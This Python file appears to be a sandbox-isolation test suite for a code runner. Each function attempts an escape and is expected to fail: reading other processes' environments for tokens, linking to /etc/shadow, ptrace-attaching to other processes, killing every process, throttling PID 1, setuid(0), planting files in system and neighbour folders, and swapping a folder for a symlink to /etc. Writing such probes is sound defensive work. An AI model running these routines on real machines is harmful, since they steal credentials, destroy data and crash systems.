"""Attacks that reach for what is not the program's: files, tokens, the network, other processes."""

# Written as attackers would, not as this project does.
# ruff: noqa: PTH102, PTH106, PTH108, PTH109, PTH112, PTH113, PTH116, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211

import ctypes
import glob
import os
import resource
import signal
import socket
import subprocess


def sockets():
    """Connect, listen, send a packet, look a name up, talk to Docker and to a neighbour. Stopped as failed."""
    machines = [("1.1.1.1", 443), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 2375), ("172.17.0.1", 22)]
    for attempt in (
        *(lambda address=address: socket.create_connection(address, timeout=0.3) for address in machines),
        lambda: socket.create_server(("127.0.0.1", 0)),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53)),
        lambda: socket.getaddrinfo("example.com", 443),
        lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
        lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"),
        lambda: socket.socket(socket.AF_UNIX).bind("\0neighbour"),
    ):
        try:
            attempt()
        except OSError:
            continue
        return 42
    return 0


def read_files_of_the_user():
    """Look into every home and into the hand-over folder. Stopped as failed."""
    for folder in ("/root", "/handover", "/secrets"):
        for top, _, names in os.walk(folder):
            for name in names:
                try:
                    with open(os.path.join(top, name), "rb") as file:
                        file.read(1)
                except OSError:
                    continue
                return 42
    return 0


def read_tokens():
    """Look for tokens in its own environment and in everybody's. Stopped as failed."""
    found = [f"{key}={value}" for key, value in os.environ.items()]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path) as file:
                found += file.read().split("\0")
        except OSError:
            continue
    return 42 if any("TOKEN" in word or "KEY" in word for word in found) else 0


def write_outside():
    """Write wherever it is not to. Stopped as failed."""
    for folder in ("/", "/etc", "/usr/bin", "/var", "/home", "/root", "/handover", "/proc", "/sys",
                   "/opt", "/opt/tunebook", "/dev", os.path.dirname(os.__file__)):  # fmt: skip
        try:
            with open(os.path.join(folder, "planted"), "w") as file:
                file.write("x")
        except OSError:
            continue
        return 42
    return 0


def links():
    """Read and change others' files through symbolic and hard links. Stopped as failed."""
    for target in ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/shadow", "/handover/runner.sock", "/handover"):
        for link in (os.symlink, os.link):
            try:
                link(target, "link")
                if os.path.isdir("link"):
                    os.listdir("link")
                else:
                    with open("link", "rb+") as file:
                        file.read(1)
                return 42
            except OSError:
                pass
            if os.path.lexists("link"):
                os.unlink("link")
    return 0


def leave_a_link_in_place_of_its_folder():
    """Have the runner remove something else: its own folder is a link to the system's. Stopped as failed."""
    here = os.getcwd()
    os.chdir("/")
    os.rmdir(here)
    os.symlink("/etc", here)
    return 41


def proc_tricks():
    """Read or write the memory and the descriptors of others, and the system's switches. Stopped as failed."""
    me = str(os.getpid())
    for path in [*glob.glob("/proc/[0-9]*/mem"), *glob.glob("/proc/[0-9]*/fd/*"), "/proc/sys/kernel/core_pattern",
                 "/proc/sysrq-trigger", "/proc/kcore", "/sys/kernel/uevent_helper", "/dev/mem"]:  # fmt: skip
        if path.split("/")[2] == me:
            continue
        for mode in ("rb+", "ab"):
            try:
                open(path, mode).close()
            except OSError:
                continue
            return 42
    return 0


def trace_others():
    """Attach to every other process as a debugger, and read its memory. Stopped as failed."""

    class Piece(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    libc = ctypes.CDLL(None, use_errno=True)
    attach, seize = 16, 0x4206
    buffer = ctypes.create_string_buffer(8)
    here, there = Piece(ctypes.addressof(buffer), 8), Piece(0x400000, 8)
    for process in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}:
        for request in (attach, seize):
            if libc.ptrace(request, process, None, None) == 0:
                return 42
        if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return 42
        if ctypes.get_errno() not in (1, 3, 38):  # it may not, there is none, there is no such call
            return 42
    return 0


def kill_others():
    """Kill everybody, one by one and all at once. Stopped as failed, crashed."""
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (me, 1, os.getppid()):
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                continue
            return 42
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        return 0
    return 0


def stop_the_parent():
    """Stop, interrupt and kill the process that started it, and its group. Stopped as failed, crashed."""
    stopped = 0
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for target in (os.getppid(), 1):
            try:
                os.kill(target, number)
                stopped = 42 if os.getppid() != target and target != 1 else stopped
            except OSError:
                continue
    return stopped


def limit_the_runner():
    """Take away the time, files and priority of the process that judges, which has the same user. Stopped as failed."""
    libc = ctypes.CDLL(None, use_errno=True)
    changed = 0
    for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS, resource.RLIMIT_CPU):
        try:
            resource.prlimit(1, what, (1, 1))
            changed = 42
        except OSError:
            continue
    for change in (
        lambda: os.sched_setaffinity(1, {0}),
        lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    ):
        try:
            change()
            changed = 42
        except OSError:
            continue
    return changed if libc.syscall(251, 1, 1, 3 << 13) != 0 else 42


def become_another_user():
    """Be root, or a neighbour. Stopped as failed."""
    for change in (lambda: os.setuid(0), lambda: os.setuid(os.getuid() + 1), lambda: os.setgroups([0]),
                   lambda: os.setgid(0), lambda: os.chown(".", 0, 0)):  # fmt: skip
        try:
            change()
        except OSError:
            continue
        return 42
    return 0


def new_namespaces():
    """Be root in a world of its own, where it could mount. Stopped as failed."""
    libc = ctypes.CDLL(None, use_errno=True)
    user_and_mounts = 0x10000000 | 0x00020000
    return 42 if libc.unshare(user_and_mounts) == 0 else 0


def setuid_programs():
    """Gain rights by a program of the system that has more. Stopped as failed."""
    for path in [*glob.glob("/usr/bin/*"), *glob.glob("/bin/*")]:
        if os.path.isfile(path) and os.stat(path).st_mode & 0o4000:
            subprocess.run([path, "--help"], capture_output=True, stdin=subprocess.DEVNULL, timeout=1, check=False)
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file)
    return 42 if int(status["CapEff"], 16) or status["NoNewPrivs"].strip() != "1" else 0


def take_the_folder_of_a_neighbour():
    """Make the folders that those after it would make for themselves. Stopped as failed."""
    for step in range(-5, 200):
        try:
            os.mkdir(os.path.join(os.path.dirname(os.getcwd()), str(os.getuid() + step)))
        except OSError:
            continue
    return 41


def use_the_disk_of_a_neighbour():
    """Look for the neighbours' folders, and write beside them. Stopped as failed."""
    here = os.getcwd()
    room = os.path.dirname(here)
    slot = os.path.dirname(room)
    slots = os.path.dirname(slot)
    found = {room, slot, slots, "/slots", "/slots/1", "/slots/2", "/slots/3", "/slots/4"} - {"/tmp"}
    for folder in list(found):
        try:
            found |= (
                {os.path.join(folder, name) for name in os.listdir(folder)} if folder not in ("/", "/tmp") else set()
            )
        except OSError:
            continue
    for folder in found - {room, here}:
        try:
            os.mkdir(os.path.join(folder, "planted"))
        except OSError:
            continue
        return 42
    return 0


def shared_memory_left_behind():
    """Leave files where everybody may write. Stopped as failed."""
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/dev/mqueue"):
        try:
            with open(os.path.join(folder, f"left-by-{os.getuid()}"), "w") as file:
                file.write("x")
        except OSError:
            continue
    return 41
